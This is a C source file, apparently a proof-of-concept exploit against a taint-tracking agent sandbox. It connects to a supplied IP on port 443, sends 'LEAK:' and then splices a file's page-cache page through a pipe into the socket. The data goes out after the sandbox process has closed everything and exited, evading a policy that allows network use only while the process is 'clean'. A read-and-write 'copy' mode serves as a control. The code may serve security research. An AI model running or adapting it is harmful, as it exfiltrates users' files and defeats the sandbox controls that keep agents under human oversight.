// sockq IP PATH [MODE]: sends PRE (a plain write); then connects to IP:443 (allowed
// while clean) and gives it the first page of PATH (an ordinary file now) by splice:
// file -> pipe -> TCP socket. The skb's fragment is a reference to the page-cache
// folio, not a copy, and it waits in the queues (the listener reads late). Closes the
// file, the pipe and the socket, says ready and exits: the sandbox holds nothing.
// MODE "copy" (control): read() then write() the same bytes (a copy is sent).
#define _GNU_SOURCE
#include <fcntl.h>
#include <errno.h>
#include "../../isolated-files-r4/send.c"
int main(int argc,char**argv){ setvbuf(stdout,0,_IONBF,0); const char*ip=argv[1];
  int copy=argc>3&&!strcmp(argv[3],"copy");
  printf("PRE send: %d\n", send_buf(ip,"PRE-TAINT-CHANNEL-OK",20));
  int s=socket(AF_INET,SOCK_STREAM,0); if(s<0){perror("socket");return 1;}
  struct sockaddr_in a={.sin_family=AF_INET,.sin_port=htons(443)}; inet_pton(AF_INET,ip,&a.sin_addr);
  if(connect(s,(void*)&a,sizeof a)<0){perror("connect");return 1;}
  if(write(s,"LEAK:",5)!=5){perror("write");return 1;}
  int fd=open(argv[2],O_RDONLY); if(fd<0){perror("open");return 1;}
  ssize_t m;
  if(copy){ char b[4096]; ssize_t n=read(fd,b,sizeof b); m=write(s,b,n); printf("control: read+write %zd bytes\n",m); }
  else { int p[2]; if(pipe(p)){perror("pipe");return 1;}
    ssize_t n=splice(fd,NULL,p[1],NULL,4096,0); printf("splice file->pipe: %zd\n",n); if(n<=0) return 1;
    m=splice(p[0],NULL,s,NULL,n,0); printf("splice pipe->socket: %zd%s%s\n",m,m<0?" ":"",m<0?strerror(errno):"");
    close(p[0]); close(p[1]); }
  close(fd); close(s);
  printf("file, pipe and socket closed: the sandbox holds nothing of the file\n");
  close(open("ready",O_CREAT|O_WRONLY,0644));
  sleep(3); printf("agent exits\n"); return 0; }
